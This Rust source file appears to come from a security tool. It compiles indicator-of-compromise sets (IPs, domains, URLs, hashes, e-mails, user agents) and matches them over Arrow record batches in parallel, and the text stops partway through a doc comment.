//! The compiled indicator set and its run over Arrow record batches.
//!
//! Each checked column has a [`Role`] that decides how a cell is read:
//!
//! * `ip`: the cell is an IP address (IPv4, IPv6 in any RFC 4291 form, IPv4-mapped IPv6),
//!   looked up in the IP/CIDR segments; a cell that is not one address (an X-Forwarded-For
//!   list, `ip:port`) is read as text.
//! * `domain`: the cell is a host name (a trailing dot and a `:port` are ignored), matched
//!   against domain indicators on label boundaries; an IP address goes to the IP table. A
//!   cell with commas or whitespace is a list of such hosts (or one padded host).
//! * `text` (url, referrer, query, message): every token is classified (IPv4, IPv6,
//!   host names, hashes) and looked up, e-mail addresses are found around each `@`
//!   ([`super::text::for_each_email`]); URL indicators, URI paths and free strings are
//!   searched with Aho-Corasick (file-name-like strings on name boundaries). Percent-encoded
//!   text is also decoded (twice at most) and searched again.
//! * `user_agent`: the whole cell equals a user-agent indicator, byte for byte.
//! * `email`: the cell, or an address in it (found as in text), lower-cased, equals an
//!   e-mail indicator; the domain of each `@` is matched against domain indicators.
//! * `hash`: the cell, lower-cased, equals an md5/sha1/sha256 indicator.
//!
//! One hit is reported per (row, column, indicator), with the first text that matched.
//! Memory is proportional to the indicators plus the hits; no per-row allocation.

use std::collections::HashMap;
use std::net::IpAddr;
use std::sync::{Arc, OnceLock};

use aho_corasick::{AhoCorasick, MatchKind};
use arrow_array::builder::{StringViewBuilder, UInt32Builder, UInt64Builder};
use arrow_array::cast::AsArray;
use arrow_array::types::UInt64Type;
use arrow_array::{Array, ArrayRef, RecordBatch};
use arrow_data::ArrayData;
use arrow_schema::{DataType, Field, Schema, SchemaRef};
use arrow_select::interleave::interleave_record_batch;
use rayon::prelude::*;

use super::column::Col;
use super::domain::DomainTable;
use super::ip::{parse_ip, parse_v4, IpTable};
use super::normalize::parse_cidr;
use super::text::{decoded, for_each_email, for_each_token, label_after, label_before};
use super::Kind;
use crate::simd::Bytes16;

/// How a column's cells are read (see the module docs).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Role {
    Ip,
    Domain,
    Text,
    UserAgent,
    Email,
    Hash,
}

impl Role {
    pub fn parse(s: &str) -> Option<Role> {
        Some(match s {
            "ip" => Role::Ip,
            "domain" => Role::Domain,
            "text" | "url" => Role::Text,
            "user_agent" => Role::UserAgent,
            "email" => Role::Email,
            "hash" => Role::Hash,
            _ => return None,
        })
    }
}

/// A column to check: its name, its role, and optionally a column whose non-null value on a
/// row means this cell is skipped (the events' `message` of an access log repeats its `url`).
#[derive(Clone, Debug)]
pub struct ColumnSpec {
    pub name: String,
    pub role: Role,
    pub unless: Option<String>,
}

/// The hits schema: `row` (global row index in the table), `column`, `ioc` (index in the
/// set), `value` (the cell), `matched` (the text in the cell that matched).
pub fn hits_schema() -> SchemaRef {
    static S: OnceLock<SchemaRef> = OnceLock::new();
    S.get_or_init(|| {
        Arc::new(Schema::new(vec![
            Field::new("row", DataType::UInt64, false),
            Field::new("column", DataType::Utf8View, false),
            Field::new("ioc", DataType::UInt32, false),
            Field::new("value", DataType::Utf8View, false),
            Field::new("matched", DataType::Utf8View, false),
        ]))
    })
    .clone()
}

/// The compiled set.
pub struct IocMatcher {
    kinds: Vec<Kind>,
    values: Vec<String>,
    ips: IpTable,
    domains: DomainTable,
    url_ac: Option<AhoCorasick>,
    /// per URL pattern: indicator id, byte offset where the case-sensitive part begins
    url_pats: Vec<(u32, usize)>,
    /// `://`, when every URL pattern has it: a text without it is not searched for URLs
    url_scheme: Option<memchr::memmem::Finder<'static>>,
    sub_ac: Option<AhoCorasick>,
    sub_ids: Vec<u32>,
    uas: HashMap<Box<[u8]>, Vec<u32>>,
    ua_lens: Vec<bool>,
    hashes: HashMap<Box<[u8]>, Vec<u32>>,
    /// e-mail indicators, lower-case
    emails: HashMap<Box<[u8]>, Vec<u32>>,
    /// their domains, lower-case: an address in the data is looked up only if its domain is one
    email_domains: std::collections::HashSet<Box<[u8]>>,
    /// the longest local part of an e-mail indicator (how far left of an `@` to look)
    max_local: usize,
    /// per `string`/`uri` pattern (as `sub_ids`): whether the bytes before and after a match
    /// must not continue a file name (see [`file_name_bounds`])
    sub_bounds: Vec<(bool, bool)>,
}

/// A `string` indicator that looks like a file name (`x.sh`, `a.js`, `invoice.pdf.exe`,
/// `.htaccess`: a dot, and only letters, digits, non-ASCII and `._-~$+`) matches only as a whole name: `(before, after)` say whether the
/// byte before a match must not be one of `[A-Za-z0-9._-]` (when the name starts with one)
/// and the byte after one of `[A-Za-z0-9_-]` (when it ends with one). So `x.sh` matches
/// `/dl/x.sh?a=1` and `"x.sh"`, not `/index.shtml`.
fn file_name_bounds(kind: Kind, v: &str) -> (bool, bool) {
    let b = v.as_bytes();
    let name_byte = |c: &u8| c.is_ascii_alphanumeric() || *c >= 0x80 || b"._-~$+".contains(c);
    if kind != Kind::String || !v.contains('.') || !b.iter().all(name_byte) {
        return (false, false);
    }
    (b.first().is_some_and(|&c| url_char(c)), b.last().is_some_and(|&c| name_char(c)))
}

/// Bytes that continue a file name after its end (`.` does not: `x.sh.bak` holds `x.sh`).
#[inline]
fn name_char(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-')
}

/// Where the case-sensitive part of a normalised URL starts (after scheme and authority).
fn url_path_start(u: &str) -> usize {
    let after = u.find("://").map_or(0, |i| i + 3);
    u[after..].find(['/', '?']).map_or(u.len(), |i| after + i)
}

#[inline]
fn url_char(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-')
}

impl IocMatcher {
    /// Compile normalised indicators (as produced by [`super::normalize`]); indicator ids are
    /// positions in `iocs`.
    pub fn new(iocs: &[(Kind, String)]) -> Result<Self, String> {
        let mut ip_entries = Vec::new();
        let mut dom = Vec::new();
        let mut url_pats = Vec::new();
        let mut url_texts = Vec::new();
        let mut sub_texts = Vec::new();
        let mut sub_ids = Vec::new();
        let mut sub_bounds = Vec::new();
        let mut email_domains = std::collections::HashSet::new();
        let mut max_local = 0;
        let mut uas: HashMap<Box<[u8]>, Vec<u32>> = HashMap::new();
        let mut hashes: HashMap<Box<[u8]>, Vec<u32>> = HashMap::new();
        let mut emails: HashMap<Box<[u8]>, Vec<u32>> = HashMap::new();
        for (i, (kind, v)) in iocs.iter().enumerate() {
            let id = u32::try_from(i).map_err(|_| "too many indicators".to_string())?;
            let bad = |why: &str| format!("indicator {i} ({} {v:?}) is not normalised: {why}", kind.as_str());
            match kind {
                Kind::Ip => {
                    let ip: IpAddr = v.parse().map_err(|_| bad("not an IP address"))?;
                    ip_entries.push((ip, if ip.is_ipv4() { 32 } else { 128 }, id));
                }
                Kind::Cidr => {
                    let (net, len) = parse_cidr(v).map_err(|e| bad(&e))?;
                    ip_entries.push((net, len, id));
                }
                Kind::Domain => dom.push((v.as_str(), id)),
                Kind::Url => {
                    url_pats.push((id, url_path_start(v)));
                    url_texts.push(v.as_bytes());
                }
                Kind::Uri | Kind::String => {
                    sub_texts.push(v.as_bytes());
                    sub_ids.push(id);
                    sub_bounds.push(file_name_bounds(*kind, v));
                }
                Kind::UserAgent => uas.entry(v.as_bytes().into()).or_default().push(id),
                Kind::Md5 | Kind::Sha1 | Kind::Sha256 => hashes.entry(v.to_ascii_lowercase().into_bytes().into()).or_default().push(id),
                Kind::Email => {
                    let low = v.to_ascii_lowercase();
                    let (local, domain) = low.rsplit_once('@').ok_or_else(|| bad("no '@'"))?;
                    max_local = usize::max(max_local, local.len());
                    email_domains.insert(domain.as_bytes().into());
                    emails.entry(low.into_bytes().into()).or_default().push(id);
                }
            }
        }
        let url_ac = if url_texts.is_empty() {
            None
        } else {
            Some(
                AhoCorasick::builder()
                    .match_kind(MatchKind::Standard)
                    .ascii_case_insensitive(true)
                    .build(&url_texts)
                    .map_err(|e| e.to_string())?,
            )
        };
        let url_scheme = url_texts.iter().all(|u| u.windows(3).any(|w| w == b"://")).then(|| memchr::memmem::Finder::new(b"://"));
        let sub_ac = if sub_texts.is_empty() {
            None
        } else {
            Some(AhoCorasick::builder().match_kind(MatchKind::Standard).build(&sub_texts).map_err(|e| e.to_string())?)
        };
        let max_ua = uas.keys().map(|k| k.len()).max().map_or(0, |m| m + 1);
        let mut ua_lens = vec![false; max_ua];
        for k in uas.keys() {
            ua_lens[k.len()] = true;
        }
        Ok(IocMatcher {
            kinds: iocs.iter().map(|(k, _)| *k).collect(),
            values: iocs.iter().map(|(_, v)| v.clone()).collect(),
            ips: IpTable::new(&ip_entries),
            domains: DomainTable::new(&dom),
            url_ac,
            url_pats,
            url_scheme,
            sub_ac,
            sub_ids,
            uas,
            ua_lens,
            hashes,
            emails,
            email_domains,
            max_local,
            sub_bounds,
        })
    }

    pub fn len(&self) -> usize {
        self.kinds.len()
    }

    pub fn is_empty(&self) -> bool {
        self.kinds.is_empty()
    }

    pub fn kind(&self, id: u32) -> Kind {
        self.kinds[id as usize]
    }

    pub fn value(&self, id: u32) -> &str {
        &self.values[id as usize]
    }

    /// Indicators matching one cell read with `role`, as (id, matched text), at most one per id.
    pub fn match_cell(&self, role: Role, cell: &[u8]) -> Vec<(u32, String)> {
        let mut out = Found::default();
        let mut ctx = Ctx::default();
        out.start_cell(cell);
        self.cell(role, cell, &mut ctx, &mut out);
        out.items.iter().map(|&(id, span)| (id, String::from_utf8_lossy(out.text(cell, span)).into_owned())).collect()
    }

    fn cell(&self, role: Role, cell: &[u8], ctx: &mut Ctx, out: &mut Found) {
        if cell.is_empty() {
            return;
        }
        match role {
            Role::Ip => {
                if self.ips.is_empty() {
                    return;
                }
                match parse_ip(cell) {
                    Some(ip) => out.emit(self.ips.lookup(ip), cell),
                    None => self.tokens(cell, out),
                }
            }
            Role::Domain => {
                if cell.iter().any(|&b| list_separator(b)) {
                    // padded, or a list: each item is a host
                    for item in cell.split(|&b| list_separator(b)).filter(|i| !i.is_empty()) {
                        self.host(item, out);
                    }
                } else {
                    self.host(cell, out);
                }
            }
            Role::Text => {
                self.text(cell, out);
                if let Some(d) = decoded(cell, &mut ctx.a, &mut ctx.b) {
                    self.text(d, out);
                }
            }
            Role::UserAgent => {
                if self.ua_lens.get(cell.len()).copied().unwrap_or(false) {
                    if let Some(ids) = self.uas.get(cell) {
                        out.emit(ids, cell);
                    }
                }
            }
            Role::Email => {
                if memchr::memchr(b'@', cell).is_none() {
                    return;
                }
                // the whole cell first (an indicator whose local part the scan of addresses
                // cannot read, such as a quoted one), then each address in it
                let whole = cell.trim_ascii();
                self.email_lookup(whole, out);
                self.emails(cell, true, out);
            }
            Role::Hash => self.simple(cell, out, Edges::NONE),
        }
    }

    /// [`Self::column`] over `col` read in its layout; `VALID`: `rows` are valid rows only.
    #[allow(clippy::too_many_arguments)]
    #[inline(always)]
    fn read_column<const SSSE3: bool, const VALID: bool>(
        &self,
        col: &Col<'_>,
        role: Role,
        si: u32,
        u: Option<&dyn Array>,
        rows: impl Iterator<Item = usize>,
        c: &mut Ctx,
        o: &mut Found,
        h: &mut Vec<Hit>,
    ) {
        match col {
            Col::Utf8(a) => self.column::<SSSE3>(role, si, |i| (VALID || a.is_valid(i)).then(|| a.value(i).as_bytes()), u, rows, c, o, h),
            Col::Large(a) => self.column::<SSSE3>(role, si, |i| (VALID || a.is_valid(i)).then(|| a.value(i).as_bytes()), u, rows, c, o, h),
            Col::View(a) => self.column::<SSSE3>(role, si, |i| if VALID { Some(a.get_valid(i)) } else { a.get(i) }, u, rows, c, o, h),
            Col::Dict { .. } => self.column::<SSSE3>(role, si, |i| col.get(i), u, rows, c, o, h),
        }
    }

    /// Match rows `rows` of one column, read through `get` (one copy of this loop per column
    /// layout, so the layout is not re-dispatched per row). IPv4 cells of `ip` columns and
    /// plain host names of `domain` columns take a direct path; everything else goes through
    /// [`Self::cell`]. Hits refer to their cell by row and column, nothing is copied; they
    /// come out in row order.
    #[allow(clippy::too_many_arguments)]
    #[inline(always)]
    fn column<'a, const SSSE3: bool>(
        &self,
        role: Role,
        si: u32,
        get: impl Fn(usize) -> Option<&'a [u8]>,
        unless: Option<&dyn Array>,
        rows: impl Iterator<Item = usize>,
        ctx: &mut Ctx,
        out: &mut Found,
        hits: &mut Vec<Hit>,
    ) {
        let push = |hits: &mut Vec<Hit>, row: usize, out: &mut Found| {
            for (ioc, m) in out.items.drain(..) {
                hits.push(Hit { row, col: si, ioc, m });
            }
        };
        // IPv4 cells of ip columns are parsed in groups of B, their index entries prefetched,
        // then looked up: the cache misses of a group overlap.
        const B: usize = 16;
        let mut pending: [(usize, u32); B] = [(0, 0); B];
        let mut np = 0;
        let flush = |pending: &[(usize, u32)], hits: &mut Vec<Hit>| {
            for &(row, a) in pending {
                for &ioc in self.ips.lookup_v4(a) {
                    hits.push(Hit { row, col: si, ioc, m: Span::CELL });
                }
            }
        };
        let mut dpending: [(usize, u64, &[u8]); B] = [(0, 0, &[]); B];
        let mut nd = 0;
        let dflush = |pending: &[(usize, u64, &[u8])], hits: &mut Vec<Hit>| {
            for &(row, hash, suffix) in pending {
                // ids of one table entry are distinct, and entries are distinct suffixes
                if let Some(ids) = self.domains.probe(hash, suffix) {
                    hits.extend(ids.iter().map(|&ioc| Hit { row, col: si, ioc, m: Span::CELL }));
                }
            }
        };
        for row in rows {
            if unless.is_some_and(|u| u.is_valid(row)) {
                continue;
            }
            let Some(cell) = get(row) else { continue };
            match role {
                Role::Ip => {
                    if let Some(a) = v4::<SSSE3>(cell) {
                        self.ips.prefetch_v4(a);
                        pending[np] = (row, a);
                        np += 1;
                        if np == B {
                            flush(&pending, hits);
                            np = 0;
                        }
                        continue;
                    }
                }
                Role::Domain if plain_host(cell) => {
                    // the candidate suffixes of a group of rows are hashed, their slots
                    // prefetched, then probed, as IPv4 cells are
                    self.domains.for_each_candidate(cell, false, |hash, suffix| {
                        self.domains.prefetch(hash);
                        dpending[nd] = (row, hash, suffix);
                        nd += 1;
                        if nd == B {
                            dflush(&dpending, hits);
                            nd = 0;
                        }
                    });
                    continue;
                }
                _ => {}
            }
            out.start_cell(cell);
            self.cell(role, cell, ctx, out);
            if !out.items.is_empty() {
                // the pending rows come first: the column's hits stay in row order
                flush(&pending[..np], hits);
                dflush(&dpending[..nd], hits);
                (np, nd) = (0, 0);
                push(hits, row, out);
            }
        }
        flush(&pending[..np], hits);
        dflush(&dpending[..nd], hits);
    }

    /// One host of a domain cell (a `host:port`, a URL or an address are read as text).
    fn host(&self, cell: &[u8], out: &mut Found) {
        if cell.contains(&b':') || cell.contains(&b'/') || cell.contains(&b'@') {
            self.tokens(cell, out);
        } else if cell[0].is_ascii_digit() && parse_v4(cell).is_some() {
            if let Some(a) = parse_v4(cell) {
                out.emit(self.ips.lookup_v4(a), cell);
            }
        } else {
            self.domains.for_each_match(cell, false, |ids, _| out.emit(ids, cell));
        }
    }

    /// E-mail indicators equal to `t` (case-insensitively).
    #[inline]
    fn email_lookup(&self, t: &[u8], out: &mut Found) {
        if self.emails.is_empty() || t.is_empty() {
            return;
        }
        let mut buf = [0u8; 320];
        let mut heap = Vec::new();
        let low: &mut [u8] = if t.len() <= buf.len() {
            &mut buf[..t.len()]
        } else {
            heap.extend_from_slice(t);
            &mut heap
        };
        low.copy_from_slice(t);
        low.make_ascii_lowercase();
        if let Some(ids) = self.emails.get(&*low) {
            out.emit(ids, t);
        }
    }

    /// The e-mail addresses in `t`, found around each `@` (see [`for_each_email`]): a local
    /// part of RFC 5322 `atext` left of it, a domain right of it. `hosts`: the domain of each
    /// `@` is also matched as a host (domain and IP indicators).
    fn emails(&self, t: &[u8], hosts: bool, out: &mut Found) {
        let emails = !self.emails.is_empty();
        if !emails && !hosts {
            return;
        }
        let mut dom = [0u8; 255];
        for_each_email(t, self.max_local, |a| {
            let domain = &t[a.at + 1..a.end];
            if hosts {
                self.simple(domain, out, Edges::after(t, a.end));
            }
            if !emails || label_after(t, a.end) {
                return;
            }
            let low = &mut dom[..domain.len()];
            low.copy_from_slice(domain);
            low.make_ascii_lowercase();
            if !self.email_domains.contains(&*low) {
                return;
            }
            a.starts(t, |s| self.email_lookup(&t[s..a.end], out));
        });
    }

    fn text(&self, t: &[u8], out: &mut Found) {
        self.tokens(t, out);
        if !self.emails.is_empty() && memchr::memchr(b'@', t).is_some() {
            self.emails(t, false, out);
        }
        let may_hold_url = self.url_scheme.as_ref().is_none_or(|f| f.find(t).is_some());
        if let Some(ac) = self.url_ac.as_ref().filter(|_| may_hold_url) {
            for m in ac.find_overlapping_iter(t) {
                let (s, e) = (m.start(), m.end());
                let (id, cs) = self.url_pats[m.pattern().as_usize()];
                let pat = self.values[id as usize].as_bytes();
                let before_ok = s == 0 || !url_char(t[s - 1]);
                let after_ok = e == t.len() || !(url_char(t[e]) || matches!(t[e], b'~' | b'%' | b':'));
                if before_ok && after_ok && t[s + cs..e] == pat[cs..] {
                    out.emit(&[id], &t[s..e]);
                }
            }
        }
        if let Some(ac) = &self.sub_ac {
            for m in ac.find_overlapping_iter(t) {
                let (k, s, e) = (m.pattern().as_usize(), m.start(), m.end());
                let (before, after) = self.sub_bounds[k];
                if (before && s > 0 && url_char(t[s - 1])) || (after && e < t.len() && name_char(t[e])) {
                    continue; // a file name inside a longer one
                }
                out.emit(&[self.sub_ids[k]], &t[s..e]);
            }
        }
    }

    fn tokens(&self, t: &[u8], out: &mut Found) {
        if self.ips.is_empty() && self.domains.is_empty() && self.hashes.is_empty() && self.emails.is_empty() {
            return;
        }
        for_each_token(t, |s, e| {
            let edges = Edges {
                start: if label_before(t, s) { t[s..].as_ptr() as usize } else { 0 },
                end: if label_after(t, e) { t[e..].as_ptr() as usize } else { 0 },
            };
            self.token(&t[s..e], out, edges);
        });
    }

    /// One token: the domain of an e-mail address (e-mail addresses themselves are found by
    /// [`Self::emails`]), an IPv6 address (alone, or after a name and a colon, as Cisco ASA's
    /// `outside:2001:db8::1`), or `:`-separated simple tokens (host:port, scheme:). `edges`:
    /// non-ASCII label characters around the token (see [`Edges`]).
    fn token(&self, t: &[u8], out: &mut Found, edges: Edges) {
        let t = trim(t, b".-_");
        let t = if t.ends_with(b"::") { t } else { t.strip_suffix(b":").unwrap_or(t) };
        if t.is_empty() {
            return;
        }
        // one pass for the last '@' and the colons (tokens are short: cheaper than memchr calls)
        let (mut last_at, mut colons) = (None, 0usize);
        for (i, &b) in t.iter().enumerate() {
            if b == b'@' {
                last_at = Some(i);
            }
            colons += usize::from(b == b':');
        }
        if let Some(at) = last_at {
            self.token(&t[at + 1..], out, Edges { start: 0, ..edges });
            return;
        }
        if colons >= 2 {
            if let Some(ip) = parse_ip(t) {
                out.emit(self.ips.lookup(ip), t);
                return;
            }
            // `name:` then an IPv6 address, as Cisco ASA writes `interface:address`
            let first_colon = memchr::memchr(b':', t).unwrap_or(0);
            let (name, rest) = (&t[..first_colon], &t[first_colon + 1..]);
            if colons >= 3 && is_name(name) {
                if let Some(ip @ IpAddr::V6(_)) = parse_ip(rest) {
                    out.emit(self.ips.lookup(ip), rest);
                    return;
                }
            }
        }
        if colons > 0 {
            let mut parts = t.split(|&b| b == b':').peekable();
            let mut first = true;
            while let Some(part) = parts.next() {
                // the non-ASCII label characters touch the first part and the last one only
                let e = Edges { start: if first { edges.start } else { 0 }, end: if parts.peek().is_none() { edges.end } else { 0 } };
                self.simple(part, out, e);
                first = false;
            }
        } else {
            self.simple(t, out, edges);
        }
    }

    /// An IPv4 address, a hash, or a dotted host name; `edges` as for [`Self::token`].
    #[inline]
    fn simple(&self, t: &[u8], out: &mut Found, edges: Edges) {
        let t = trim(t, b".-_");
        if t.is_empty() {
            return;
        }
        if t[0].is_ascii_digit() {
            if let Some(a) = parse_v4(t) {
                out.emit(self.ips.lookup_v4(a), t);
                return;
            }
        }
        if matches!(t.len(), 32 | 40 | 64) && !self.hashes.is_empty() && t.iter().all(u8::is_ascii_hexdigit) {
            let mut buf = [0u8; 64];
            let low = &mut buf[..t.len()];
            low.copy_from_slice(t);
            low.make_ascii_lowercase();
            if let Some(ids) = self.hashes.get(&*low) {
                out.emit(ids, t);
            }
            return;
        }
        if !self.domains.is_empty() && t.contains(&b'.') {
            // a non-ASCII letter right after the host continues its last label: no suffix is
            // an indicator; right before it, its first label: the whole host is not one
            if t[t.len()..].as_ptr() as usize == edges.end {
                return;
            }
            self.domains.for_each_match(t, true, |ids, suffix| {
                if suffix.as_ptr() as usize != edges.start {
                    out.emit(ids, t);
                }
            });
        }
    }

    /// Match the columns `specs` of `batches` (all with one schema); rows are numbered across
    /// batches from 0. Runs on the rayon pool in chunks of rows; hits come out in row order.
    pub fn match_batches(&self, batches: &[RecordBatch], specs: &[ColumnSpec]) -> Result<Vec<RecordBatch>, String> {
        // tasks of at least 32k rows, about 32 per thread: the threads finish together, and a
        // task's hits are built while its cells are still in cache (8 per thread was 5-10 %
        // slower on 20M rows); few enough that the hits come out in a few hundred batches
        let total: usize = batches.iter().map(RecordBatch::num_rows).sum();
        let chunk = (total / (32 * rayon::current_num_threads())).max(32 * 1024);
        #[cfg(target_arch = "x86_64")]
        let ssse3 = std::arch::is_x86_feature_detected!("ssse3");
        #[cfg(not(target_arch = "x86_64"))]
        let ssse3 = false;
        let mut prepared = Vec::with_capacity(batches.len());
        // per dictionary column: which of its values match (the batches of a table usually
        // share one dictionary: matched once for all of them)
        let mut dictionaries: Vec<(usize, ArrayData, Arc<[bool]>)> = Vec::new();
        let mut tasks = Vec::new();
        let mut base = 0u64;
        for (bi, batch) in batches.iter().enumerate() {
            let mut cols = Vec::with_capacity(specs.len());
            for spec in specs {
                let arr = batch.column_by_name(&spec.name).ok_or_else(|| format!("no column {:?} in the table", spec.name))?;
                let col = Col::new(arr.as_ref()).ok_or_else(|| {
                    format!(
                        "column {:?} is {}, not a string column (Utf8, LargeUtf8, Utf8View or a dictionary of them)",
                        spec.name,
                        arr.data_type()
                    )
                })?;
                let mut col = col;
                if let Some(dictionary) = col.dictionary() {
                    let m = match dictionaries.iter().find(|(si, d, _)| *si == cols.len() && d.ptr_eq(&dictionary.to_data())) {
                        Some((_, _, m)) => m.clone(),
                        None => {
                            let m = self.value_matches(ssse3, spec.role, dictionary)?;
                            dictionaries.push((cols.len(), dictionary.to_data(), m.clone()));
                            m
                        }
                    };
                    col.set_matches(m);
                }
                let unless = match &spec.unless {
                    Some(u) => batch.column_by_name(u).cloned(),
                    None => None,
                };
                cols.push((col, unless));
            }
            prepared.push(cols);
            let n = batch.num_rows();
            let mut lo = 0;
            while lo < n {
                let hi = (lo + chunk).min(n);
                tasks.push((bi, lo, hi, base));
                lo = hi;
            }
            base += n as u64;
        }
        let parts: Vec<Option<RecordBatch>> = tasks
            .par_iter()
            .map(|&(bi, lo, hi, base)| {
                let (hits, spill) = self.run_task(ssse3, &prepared[bi], specs, lo..hi);
                (!hits.is_empty()).then(|| hits_batch(&hits, &spill, base, &prepared[bi], specs)).transpose()
            })
            .collect::<Result<_, String>>()?;
        Ok(parts.into_iter().flatten().collect())
    }

    /// Whether each of a dictionary's `values` matches some indicator when read with `role`: the values are matched as a column of their own, by the loop
    /// that matches cells (IPv4 addresses and host names batched and prefetched), in chunks on
    /// all cores for a large dictionary.
    fn value_matches(&self, ssse3: bool, role: Role, values: &ArrayRef) -> Result<Arc<[bool]>, String> {
        let n = values.len();
        let col = Col::new(values.as_ref()).ok_or_else(|| format!("dictionary values of type {}", values.data_type()))?;
        let cols = [(col, None)];
        let specs = [ColumnSpec { name: String::new(), role, unless: None }];
        let chunk = 16 * 1024;
        let hit_rows = |lo: usize| -> Vec<usize> {
            let (hits, _) = self.run_task(ssse3, &cols, &specs, lo..(lo + chunk).min(n));
            hits.iter().map(|h| h.row).collect()
        };
        let rows: Vec<Vec<usize>> = (0..n.div_ceil(chunk)).into_par_iter().map(|k| hit_rows(k * chunk)).collect();
        let mut m = vec![false; n];
        for r in rows.iter().flatten() {
            m[*r] = true;
        }
        Ok(m.into())
    }

    /// [`Self::task`], compiled for SSSE3 when `ssse3` (the CPU has it).
    fn run_task(
        &self,
        ssse3: bool,
        cols: &[(Col<'_>, Option<ArrayRef>)],
        specs: &[ColumnSpec],
        rows: std::ops::Range<usize>,
    ) -> (Vec<Hit>, Vec<u8>) {
        #[cfg(target_arch = "x86_64")]
        if ssse3 {
            // SAFETY: `ssse3` is true only when the CPU has SSSE3 (see `match_batches`)
            return unsafe { self.task_ssse3(cols, specs, rows) };
        }
        let _ = ssse3; // no SSSE3 path elsewhere
        self.task::<false>(cols, specs, rows)
    }

    /// [`Self::task`] compiled for CPUs with SSSE3 (IPv4 cells parsed by [`super::v4_ssse3`]).
    ///
    /// # Safety
    /// The CPU must support SSSE3.
    #[cfg(target_arch = "x86_64")]
    #[target_feature(enable = "ssse3")]
    unsafe fn task_ssse3(
        &self,
        cols: &[(Col<'_>, Option<ArrayRef>)],
        specs: &[ColumnSpec],
        rows: std::ops::Range<usize>,
    ) -> (Vec<Hit>, Vec<u8>) {
        self.task::<true>(cols, specs, rows)
    }

    /// The hits of rows `rows` of one batch's columns `cols`, in row order, with the spill of
    /// their decoded matched texts. `SSSE3`: the CPU has it (see [`Self::task_ssse3`]).
    #[inline(always)]
    fn task<const SSSE3: bool>(
        &self,
        cols: &[(Col<'_>, Option<ArrayRef>)],
        specs: &[ColumnSpec],
        rows: std::ops::Range<usize>,
    ) -> (Vec<Hit>, Vec<u8>) {
        let mut ctx = Ctx::default();
        let mut out = Found::default();
        let mut hits = Vec::new();
        let mut ends = Vec::with_capacity(cols.len());
        // column by column (one role per loop, predictable branches), then row order
        for (si, (col, unless)) in cols.iter().enumerate() {
            let (role, si, u, rows) = (specs[si].role, si as u32, unless.as_deref(), rows.clone());
            let (c, o, h) = (&mut ctx, &mut out, &mut hits);
            // a column with nulls is read at its valid rows only, found in the null bitmap a word
            // at a time: a branch on each row's validity would be mispredicted at every null
            let valid = col.nulls().filter(|n| n.null_count() > 0).map(|n| n.inner().slice(rows.start, rows.len()));
            if col.is_matched_dictionary() {
                // a dictionary whose values were matched: the few rows holding a matching value,
                // found a block of rows at a time (their keys are read again while in cache)
                for lo in rows.clone().step_by(DICT_BLOCK) {
                    let candidates = col.candidates(lo..(lo + DICT_BLOCK).min(rows.end));
                    self.column::<SSSE3>(role, si, |i| col.get(i), u, candidates.into_iter(), c, o, h);
                }
            } else if let Some(v) = &valid {
                self.read_column::<SSSE3, true>(col, role, si, u, v.set_indices().map(|i| i + rows.start), c, o, h);
            } else {
                self.read_column::<SSSE3, false>(col, role, si, u, rows, c, o, h);
            }
            ends.push(hits.len());
        }
        (merge_runs(hits, &ends), out.spill)
    }
}

/// Rows of a dictionary column scanned for candidates at a time (see [`IocMatcher::task`]).
const DICT_BLOCK: usize = 4096;

/// `hits` in row order: `ends[k]` ends the run of column `k`'s hits (each in row order);
/// a row's hits keep the column order, and a column's their order. A merge of the runs
/// (linear: there are few columns), not a sort.
fn merge_runs(hits: Vec<Hit>, ends: &[usize]) -> Vec<Hit> {
    let starts: Vec<usize> = std::iter::once(0).chain(ends.iter().copied()).take(ends.len()).collect();
    if starts.iter().zip(ends).filter(|(s, e)| s < e).count() <= 1 {
        return hits; // one run (or none): already in order
    }
    let rows: Vec<u64> = hits.iter().map(|h| h.row as u64).collect();
    let runs: Vec<&[u64]> = starts.iter().zip(ends).map(|(&s, &e)| &rows[s..e]).collect();
    merge_order(&runs).into_iter().map(|(k, i)| hits[starts[k] + i]).collect()
}

/// The merge of `runs` (row numbers, each run ascending) into row order, the first run
/// first on a tie: each element as (run, position in its run).
fn merge_order(runs: &[&[u64]]) -> Vec<(usize, usize)> {
    let mut next = vec![0; runs.len()];
    let mut order = Vec::with_capacity(runs.iter().map(|r| r.len()).sum());
    loop {
        let mut best: Option<(usize, u64)> = None;
        for (k, run) in runs.iter().enumerate() {
            if let Some(&row) = run.get(next[k]) {
                if best.is_none_or(|(_, r)| row < r) {
                    best = Some((k, row));
                }
            }
        }
        let Some((k, _)) = best else { return order };
        order.push((k, next[k]));
        next[k] += 1;
    }
}

/// The IPv4 address that is the whole of `b`; `SSSE3`: the CPU has it.
#[inline(always)]
fn v4<const SSSE3: bool>(b: &[u8]) -> Option<u32> {
    #[cfg(target_arch = "x86_64")]
    if SSSE3 {
        // SAFETY: `SSSE3` is true only under `task_ssse3`, entered after the CPU was checked
        return unsafe { super::v4_ssse3::parse_v4(b) };
    }
    parse_v4(b)
}

/// Hits of several matches of the same rows (one per column, say), each in row order,
/// merged into row order: a row's hits keep the order of `parts`, then their own. Batches
/// whose rows overlap (those of one task of each part) are merged together, each group on
/// its own thread; one part with hits is returned as it is.
pub fn merge_hits(parts: &[Vec<RecordBatch>]) -> Result<Vec<RecordBatch>, String> {
    let rows = |b: &RecordBatch| b.column(0).as_primitive::<UInt64Type>().values().clone();
    // (first row, last row, part, batch), in row order
    let mut spans: Vec<(u64, u64, usize, &RecordBatch)> = Vec::new();
    for (k, part) in parts.iter().enumerate() {
        for b in part.iter().filter(|b| b.num_rows() > 0) {
            let r = rows(b);
            spans.push((r[0], r[r.len() - 1], k, b));
        }
    }
    if spans.iter().all(|s| s.2 == spans[0].2) {
        return Ok(spans.iter().map(|s| s.3.clone()).collect()); // one part (or none)
    }
    spans.sort_by_key(|&(lo, _, k, _)| (lo, k));
    // groups of overlapping row ranges
    let mut groups: Vec<Vec<(usize, &RecordBatch)>> = Vec::new();
    let mut top = None;
    for &(lo, hi, k, b) in &spans {
        if top.is_none_or(|t| lo > t) {
            groups.push(Vec::new());
        }
        top = Some(top.map_or(hi, |t: u64| t.max(hi)));
        groups.last_mut().expect("a group").push((k, b));
    }
    groups.into_par_iter().map(|g| merge_group(&g, rows)).collect()
}

/// The columns of `schema` (a table of the matched rows, as `batches`) at the rows of each
/// batch of `hits` (batches of [`hits_schema`], in row order): per hits batch, one array per
